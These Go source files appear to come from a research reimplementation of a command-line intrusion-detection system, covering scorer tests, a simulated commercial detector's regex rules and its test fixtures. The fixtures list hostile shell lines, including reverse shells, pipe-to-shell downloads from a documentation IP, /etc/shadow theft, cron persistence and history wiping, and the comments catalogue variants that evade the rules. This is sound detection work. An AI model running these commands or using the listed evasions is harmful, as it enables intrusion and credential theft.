}
