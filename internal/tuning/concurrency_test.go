package tuning

import (
	"math"
	"sync"
	"testing"

	"clmids/internal/linalg"
	"clmids/internal/tensor"
)

// concurrencyScorers builds one instance of each method scorer over the
// shared fixture. The reconstruction tuner mutates its encoder during
// training, so it gets a clone.
func concurrencyScorers(t *testing.T) map[string]Scorer {
	t.Helper()
	f := getFixture(t)

	ccfg := DefaultClassifierConfig()
	ccfg.Epochs = 2
	clf, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY, ccfg)
	if err != nil {
		t.Fatal(err)
	}

	mcfg := DefaultClassifierConfig()
	mcfg.Epochs = 2
	mcfg.MeanPoolFeatures = true
	multi, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY, mcfg)
	if err != nil {
		t.Fatal(err)
	}

	ret, err := TrainRetrieval(f.mdl.Encoder, f.tok, f.trainX, f.trainY, 1)
	if err != nil {
		t.Fatal(err)
	}

	clone := cloneModel(t, f.mdl)
	rcfg := DefaultReconsConfig()
	rcfg.Rounds = 1
	rec, err := TrainReconstruction(clone.Encoder, f.tok, f.trainX, f.trainY, rcfg)
	if err != nil {
		t.Fatal(err)
	}

	pca, err := TrainPCA(f.mdl.Encoder, f.tok, f.trainX, linalg.PCAOptions{})
	if err != nil {
		t.Fatal(err)
	}

	return map[string]Scorer{
		"classifier":     clf,
		"classifier-cls": multi,
		"retrieval":      ret,
		"reconstruction": rec,
		"pca":            pca,
	}
}

// TestScorersConcurrentScore pins the serving contract: every method
// scorer's Score must be safe for concurrent use (run with -race in CI)
// and concurrent results must equal serial ones exactly — the scoring path
// is deterministic, cache hit or miss.
func TestScorersConcurrentScore(t *testing.T) {
	scorers := concurrencyScorers(t)
	f := getFixture(t)
	lines := append(append([]string(nil), f.testPos...), f.testNeg...)

	for name, s := range scorers {
		t.Run(name, func(t *testing.T) {
			want, err := s.Score(lines)
			if err != nil {
				t.Fatal(err)
			}
			const goroutines = 8
			got := make([][]float64, goroutines)
			errs := make([]error, goroutines)
			var wg sync.WaitGroup
			for g := 0; g < goroutines; g++ {
				wg.Add(1)
				go func(g int) {
					defer wg.Done()
					// Overlapping windows, so goroutines share cache
					// entries and in-flight computations.
					win := lines[g%4:]
					got[g], errs[g] = s.Score(win)
				}(g)
			}
			wg.Wait()
			for g := 0; g < goroutines; g++ {
				if errs[g] != nil {
					t.Fatalf("goroutine %d: %v", g, errs[g])
				}
				off := g % 4
				for i, v := range got[g] {
					if v != want[off+i] {
						t.Fatalf("goroutine %d line %d: concurrent %g, serial %g", g, i, v, want[off+i])
					}
				}
			}
		})
	}
}

// TestScorersEmptyInput: scoring zero lines returns zero scores on every
// method — the streaming service flushes empty windows routinely.
func TestScorersEmptyInput(t *testing.T) {
	for name, s := range concurrencyScorers(t) {
		scores, err := s.Score(nil)
		if err != nil {
			t.Fatalf("%s: empty Score: %v", name, err)
		}
		if len(scores) != 0 {
			t.Fatalf("%s: empty Score returned %d scores", name, len(scores))
		}
	}
}

// TestHeadLogitsMatchesTape: the tape-free head forward must reproduce the
// autograd MLP forward exactly (same kernels, same order).
func TestHeadLogitsMatchesTape(t *testing.T) {
	f := getFixture(t)
	cfg := DefaultClassifierConfig()
	cfg.Epochs = 2
	clf, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY, cfg)
	if err != nil {
		t.Fatal(err)
	}
	feats, err := clf.engine.CLSLines(f.testPos)
	if err != nil {
		t.Fatal(err)
	}
	got := headLogits(clf.head, feats)
	want := clf.head.Forward(tensor.Const(feats))
	for i := range want.Val.Data {
		if d := math.Abs(want.Val.Data[i] - got.Data[i]); d != 0 {
			t.Fatalf("element %d: tape-free %g, tape %g", i, got.Data[i], want.Val.Data[i])
		}
	}
}
