package tuning

import (
	"math"
	"testing"
)

// stubRungScorer is a deterministic table-driven scorer for cascade routing
// tests; it records the batches it was asked to score.
type stubRungScorer struct {
	scores map[string]float64
	calls  [][]string
}

func (s *stubRungScorer) Score(lines []string) ([]float64, error) {
	s.calls = append(s.calls, append([]string(nil), lines...))
	out := make([]float64, len(lines))
	for i, l := range lines {
		out[i] = s.scores[l]
	}
	return out, nil
}

func (s *stubRungScorer) Replicate() Scorer {
	return &stubRungScorer{scores: s.scores}
}

// notReplicable is a Scorer without Replicate, for constructor validation.
type notReplicable struct{}

func (notReplicable) Score(lines []string) ([]float64, error) {
	return make([]float64, len(lines)), nil
}

func TestCascadeRoutesRungs(t *testing.T) {
	rt := fitTestRarity(t, rarityFixtureLines())
	cleared := "ls -la /tmp"         // dominant in the fixture: low rarity
	triaged := "tar -xzf backup.tgz" // seen once: above the clear threshold
	escalated := "nmap -sS 10.0.0.1" // unseen command: maximal rarity
	params := CascadeParams{
		ClearThreshold: rt.Rarity(cleared), // exactly the common line clears
		ClearScore:     0.11,
		EscalateLow:    0.5,
	}
	if r := rt.Rarity(triaged); r <= params.ClearThreshold {
		t.Fatalf("fixture broken: triaged line rarity %v under clear threshold %v", r, params.ClearThreshold)
	}
	triage := &stubRungScorer{scores: map[string]float64{triaged: 0.3, escalated: 0.8}}
	confirm := &stubRungScorer{scores: map[string]float64{escalated: 0.93}}
	casc, err := NewCascadeScorer(rt, triage, confirm, params)
	if err != nil {
		t.Fatalf("NewCascadeScorer: %v", err)
	}

	got, err := casc.Score([]string{escalated, cleared, triaged})
	if err != nil {
		t.Fatalf("Score: %v", err)
	}
	want := []float64{0.93, 0.11, 0.3}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("score[%d] = %v, want %v (all: %v)", i, got[i], want[i], got)
		}
	}
	if len(triage.calls) != 1 || len(triage.calls[0]) != 2 {
		t.Fatalf("triage rung saw %v, want one batch of the two uncleared lines", triage.calls)
	}
	if len(confirm.calls) != 1 || len(confirm.calls[0]) != 1 || confirm.calls[0][0] != escalated {
		t.Fatalf("confirm rung saw %v, want only the escalated line", confirm.calls)
	}
	st := casc.CascadeStats()
	if st.Cleared != 1 || st.Triaged != 2 || st.Escalated != 1 {
		t.Fatalf("CascadeStats = %+v, want 1/2/1", st)
	}
}

func TestCascadeAllClearedSkipsModelRungs(t *testing.T) {
	rt := fitTestRarity(t, rarityFixtureLines())
	triage := &stubRungScorer{scores: map[string]float64{}}
	confirm := &stubRungScorer{scores: map[string]float64{}}
	casc, err := NewCascadeScorer(rt, triage, confirm, CascadeParams{
		ClearThreshold: rt.MaxRarity(), ClearScore: 0.2, EscalateLow: 1,
	})
	if err != nil {
		t.Fatalf("NewCascadeScorer: %v", err)
	}
	got, err := casc.Score([]string{"ls -la /tmp", "cat /etc/hosts"})
	if err != nil {
		t.Fatalf("Score: %v", err)
	}
	for i, s := range got {
		if s != 0.2 {
			t.Fatalf("score[%d] = %v, want the clear score", i, s)
		}
	}
	if len(triage.calls) != 0 || len(confirm.calls) != 0 {
		t.Fatal("model rungs were called for fully cleared input")
	}
	// An unparsable line has infinite rarity and must bypass even a maximal
	// clear threshold.
	if _, err := casc.Score([]string{`bad "quote`}); err != nil {
		t.Fatalf("Score: %v", err)
	}
	if len(triage.calls) != 1 {
		t.Fatal("unparsable line did not reach the triage rung")
	}
}

func TestCascadeReplicateIsolatesCounters(t *testing.T) {
	rt := fitTestRarity(t, rarityFixtureLines())
	triage := &stubRungScorer{scores: map[string]float64{}}
	confirm := &stubRungScorer{scores: map[string]float64{}}
	casc, err := NewCascadeScorer(rt, triage, confirm, CascadeParams{
		ClearThreshold: rt.MaxRarity(), ClearScore: 0.2, EscalateLow: 1,
	})
	if err != nil {
		t.Fatalf("NewCascadeScorer: %v", err)
	}
	if _, err := casc.Score([]string{"ls -la /tmp"}); err != nil {
		t.Fatalf("Score: %v", err)
	}
	rep, ok := casc.Replicate().(*CascadeScorer)
	if !ok {
		t.Fatal("Replicate did not return a CascadeScorer")
	}
	if st := rep.CascadeStats(); st != (CascadeStats{}) {
		t.Fatalf("replica counters %+v, want zero", st)
	}
	got, err := rep.Score([]string{"ls -la /tmp"})
	if err != nil || got[0] != 0.2 {
		t.Fatalf("replica score = %v, %v; want 0.2", got, err)
	}
	if st := casc.CascadeStats(); st.Cleared != 1 {
		t.Fatalf("original counters %+v changed by replica scoring", st)
	}
}

func TestNewCascadeScorerValidation(t *testing.T) {
	rt := fitTestRarity(t, rarityFixtureLines())
	ok := &stubRungScorer{scores: map[string]float64{}}
	params := CascadeParams{ClearThreshold: 1, ClearScore: 0, EscalateLow: 1}
	if _, err := NewCascadeScorer(nil, ok, ok, params); err == nil {
		t.Fatal("nil rarity table accepted")
	}
	if _, err := NewCascadeScorer(rt, notReplicable{}, ok, params); err == nil {
		t.Fatal("non-replicable triage scorer accepted")
	}
	if _, err := NewCascadeScorer(rt, ok, notReplicable{}, params); err == nil {
		t.Fatal("non-replicable confirm scorer accepted")
	}
	bad := params
	bad.EscalateLow = math.NaN()
	if _, err := NewCascadeScorer(rt, ok, ok, bad); err == nil {
		t.Fatal("NaN escalation floor accepted")
	}
	bad = params
	bad.ClearThreshold = math.Inf(1)
	if _, err := NewCascadeScorer(rt, ok, ok, bad); err == nil {
		t.Fatal("+Inf clear threshold accepted")
	}
}
