// Package commercial simulates the commercial intrusion-detection system
// that provides the paper's (noisy) supervision (§IV).
//
// The real supervision source is a black-box product from a Fortune Global
// 500 vendor; what the paper's methods actually depend on is (a) which
// attack patterns its rules cover, (b) which closely related variants they
// miss (Table III), and (c) label noise. This package reproduces exactly
// those properties: a regular-expression rule set covering the corpus
// package's in-box variants — with the paper's documented blind spots — plus
// configurable false-negative/false-positive noise.
package commercial

import (
	"fmt"
	"math/rand"
	"regexp"
)

// Rule is one detection signature.
type Rule struct {
	// Name identifies the rule.
	Name string
	// Family is the attack family the rule covers.
	Family string
	// Pattern matches the raw command line.
	Pattern *regexp.Regexp
}

// IDS is the simulated commercial detector.
type IDS struct {
	rules []Rule
}

// Default returns the rule set covering the paper's in-box patterns.
// The blind spots are deliberate and load-bearing: `nc -ulp`, wrapper
// scripts around masscan, socks5 proxies, non-java base64-decode-exec,
// wget-rename-execute chains, and cron-file persistence all slip through,
// exactly as in Table III.
func Default() *IDS {
	mk := func(name, family, pat string) Rule {
		return Rule{Name: name, Family: family, Pattern: regexp.MustCompile(pat)}
	}
	return &IDS{rules: []Rule{
		// nc/ncat TCP listeners and connect-back shells. The -u (UDP)
		// variants are NOT covered.
		mk("nc-listen-tcp", "nc_shell", `\bnc\s+-lvnp\b`),
		mk("nc-exec", "nc_shell", `\bnc\s+-e\s+/bin/`),
		mk("ncat-listen-tcp", "nc_shell", `\bncat\s+-lvp\b`),

		// Interactive fd-redirection reverse shell over /dev/tcp, launched
		// directly by bash. Interpreter wrappers (java -cp ...) and /dev/udp
		// are NOT covered.
		mk("bash-dev-tcp", "rev_shell", `^bash\s+-i\s+>&\s*/dev/tcp/`),

		// The masscan binary invoked directly. Wrapper scripts are NOT
		// covered.
		mk("masscan-binary", "masscan", `^masscan\s`),

		// Plain-HTTP proxy exfiltration. socks5:// is NOT covered.
		mk("proxy-http", "proxy", `export\s+https_proxy="http://`),

		// base64-decode-and-execute camouflaged under java. The python3 and
		// bare-shell variants are NOT covered.
		mk("java-b64-exec", "b64_exec", `\bjava\s.*\{base64,-d\}`),

		// Pipe-to-shell downloaders. Download-rename-execute chains are NOT
		// covered (each line looks innocent alone).
		mk("curl-pipe-sh", "download_exec", `\bcurl\s+http[^|]*\|\s*(bash|sh)\b`),
		mk("wget-pipe-sh", "download_exec", `\bwget\s+-q\s+-O-\s+[^|]*\|\s*(bash|sh)\b`),

		// Shadow-file access via cat. Archiving /etc/shadow is NOT covered.
		mk("cat-shadow", "cred_theft", `\bcat\s+/etc/shadow\b`),

		// Crontab-command persistence. Direct writes to cron spool files are
		// NOT covered.
		mk("crontab-inject", "persistence", `\(crontab\s+-l;.*\|\s*crontab\s+-`),

		// history wipe. HISTFILE unsetting is NOT covered.
		mk("history-wipe", "history_clear", `history\s+-c\s*&&\s*rm\b`),
	}}
}

// Rules returns the rule set (read-only use).
func (ids *IDS) Rules() []Rule { return ids.rules }

// Match returns the first matching rule name, or "" when no rule fires.
// This is the noise-free oracle.
func (ids *IDS) Match(line string) string {
	for _, r := range ids.rules {
		if r.Pattern.MatchString(line) {
			return r.Name
		}
	}
	return ""
}

// Noise describes supervision label noise. The paper stresses that
// commercial-IDS supervision is "very noisy": alerts are missed (false
// negatives) and occasionally spurious (false positives).
type Noise struct {
	// FalseNegative is the probability that a rule-matching line is
	// nevertheless not flagged.
	FalseNegative float64
	// FalsePositive is the probability that a non-matching line is flagged
	// anyway.
	FalsePositive float64
}

// Validate reports configuration errors.
func (n Noise) Validate() error {
	if n.FalseNegative < 0 || n.FalseNegative >= 1 {
		return fmt.Errorf("commercial: false-negative rate %v outside [0,1)", n.FalseNegative)
	}
	if n.FalsePositive < 0 || n.FalsePositive >= 1 {
		return fmt.Errorf("commercial: false-positive rate %v outside [0,1)", n.FalsePositive)
	}
	return nil
}

// DefaultNoise matches the paper's "very noisy" description while keeping
// the supervision usable.
func DefaultNoise() Noise {
	return Noise{FalseNegative: 0.05, FalsePositive: 0.002}
}

// Label produces the commercial IDS verdict for each line, with noise
// applied deterministically from seed. The result is the supervision signal
// {(t_i, y_i)} used by every tuning method.
func (ids *IDS) Label(lines []string, noise Noise, seed int64) ([]bool, error) {
	if err := noise.Validate(); err != nil {
		return nil, err
	}
	rng := rand.New(rand.NewSource(seed))
	out := make([]bool, len(lines))
	for i, line := range lines {
		matched := ids.Match(line) != ""
		switch {
		case matched && rng.Float64() < noise.FalseNegative:
			out[i] = false
		case !matched && rng.Float64() < noise.FalsePositive:
			out[i] = true
		default:
			out[i] = matched
		}
	}
	return out, nil
}
