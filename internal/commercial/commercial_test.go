package commercial

import (
	"testing"

	"clmids/internal/corpus"
)

func TestRulesCatchInBoxExamples(t *testing.T) {
	ids := Default()
	inBox := []string{
		"nc -lvnp 4444",
		"nc -e /bin/sh 203.0.113.5 4444",
		"ncat -lvp 9001 -e /bin/bash",
		"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
		"masscan 203.0.113.5 -p 0-65535 --rate=1000 >> tmp.txt",
		`export https_proxy="http://203.0.113.5:8080"`,
		`java -jar tmp.jar -C "bash -c {echo,YWJj} {base64,-d} {bash,-i}"`,
		"curl http://203.0.113.5/x.sh | bash",
		"wget -q -O- http://203.0.113.5/init.sh | sh",
		"cat /etc/shadow",
		`(crontab -l; echo "* * * * * curl http://203.0.113.5/s.sh | sh") | crontab -`,
		"history -c && rm -f ~/.bash_history",
	}
	for _, line := range inBox {
		if ids.Match(line) == "" {
			t.Errorf("in-box line not matched: %q", line)
		}
	}
}

func TestRulesMissTableIIIBlindSpots(t *testing.T) {
	ids := Default()
	outOfBox := []string{
		"nc -ulp 4444",
		"ncat --udp -lp 4444 -e /bin/sh",
		`java -cp tmp.jar "bash=bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"`,
		"sh -i >& /dev/udp/203.0.113.5/4444 0>&1",
		"sh /root/masscan.sh 203.0.113.5 -p 0-65535",
		`export https_proxy="socks5://203.0.113.5:1080"`,
		`python3 tmp.py -p "bash -c {echo,YWJj} {base64,-d} {bash,-i}"`,
		"echo YWJj | base64 -d | bash -i",
		"wget -c http://203.0.113.5/drop -o python",
		"python",
		"tar -cf /tmp/.a.tar /etc/shadow /etc/passwd",
		`echo "* * * * * curl -fsSL http://203.0.113.5/s.sh -o /tmp/.s && sh /tmp/.s" >> /var/spool/cron/root`,
		"unset HISTFILE; ln -sf /dev/null ~/.bash_history",
	}
	for _, line := range outOfBox {
		if rule := ids.Match(line); rule != "" {
			t.Errorf("out-of-box line matched by %q: %q", rule, line)
		}
	}
}

func TestRulesIgnoreBenign(t *testing.T) {
	ids := Default()
	benign := []string{
		"ls -la /srv",
		"docker ps -a",
		"cat /var/log/syslog",
		"curl -s https://status.example.com/healthz",
		"wget https://mirror.example.com/pkg.tar.gz",
		"crontab -l",
		"history | tail -n 30",
		"export PATH=$PATH:/usr/local/go/bin",
		"python main.py",
		"java -jar app.jar --server.port=8443",
		"echo done",
	}
	for _, line := range benign {
		if rule := ids.Match(line); rule != "" {
			t.Errorf("benign line matched by %q: %q", rule, line)
		}
	}
}

// TestGroundTruthConsistency is the load-bearing invariant between the two
// simulation packages: for generated intrusion lines, rule coverage must
// agree with the corpus InBox flag (multi-line chains are checked at chain
// level: at least the chain's first line classification matters for
// training supervision; every chain line must stay uncovered when marked
// out-of-box).
func TestGroundTruthConsistency(t *testing.T) {
	cfg := corpus.DefaultConfig()
	cfg.TrainLines = 4000
	cfg.TestLines = 2000
	cfg.IntrusionRate = 0.15
	train, test, err := corpus.Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ids := Default()
	for _, split := range []*corpus.Dataset{train, test} {
		for _, s := range split.Samples {
			if s.Label != corpus.Intrusion {
				continue
			}
			matched := ids.Match(s.Line) != ""
			if s.InBox && s.ChainID == 0 && !matched {
				t.Errorf("in-box intrusion not covered by rules: %q (family %s)", s.Line, s.Family)
			}
			if !s.InBox && matched {
				t.Errorf("out-of-box intrusion covered by rules: %q (family %s)", s.Line, s.Family)
			}
		}
	}
}

func TestLabelNoise(t *testing.T) {
	ids := Default()
	lines := make([]string, 0, 2000)
	for i := 0; i < 1000; i++ {
		lines = append(lines, "nc -lvnp 4444") // always matches
		lines = append(lines, "ls -la /tmp")   // never matches
	}
	noise := Noise{FalseNegative: 0.2, FalsePositive: 0.01}
	labels, err := ids.Label(lines, noise, 7)
	if err != nil {
		t.Fatal(err)
	}
	fn, fp := 0, 0
	for i, l := range labels {
		if i%2 == 0 && !l {
			fn++
		}
		if i%2 == 1 && l {
			fp++
		}
	}
	if fn < 120 || fn > 280 {
		t.Errorf("false negatives = %d/1000, want ~200", fn)
	}
	if fp > 40 {
		t.Errorf("false positives = %d/1000, want ~10", fp)
	}
	// Determinism.
	again, err := ids.Label(lines, noise, 7)
	if err != nil {
		t.Fatal(err)
	}
	for i := range labels {
		if labels[i] != again[i] {
			t.Fatal("labeling is not deterministic for a fixed seed")
		}
	}
}

func TestLabelValidation(t *testing.T) {
	ids := Default()
	if _, err := ids.Label([]string{"ls"}, Noise{FalseNegative: 1.5}, 1); err == nil {
		t.Error("invalid noise accepted")
	}
	if err := DefaultNoise().Validate(); err != nil {
		t.Errorf("default noise invalid: %v", err)
	}
	if len(ids.Rules()) == 0 {
		t.Error("no rules")
	}
}

func BenchmarkMatch(b *testing.B) {
	ids := Default()
	lines := []string{
		"ls -la /srv/data",
		"nc -lvnp 4444",
		"docker exec -it app bash",
		"curl http://203.0.113.5/x.sh | bash",
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ids.Match(lines[i%len(lines)])
	}
}
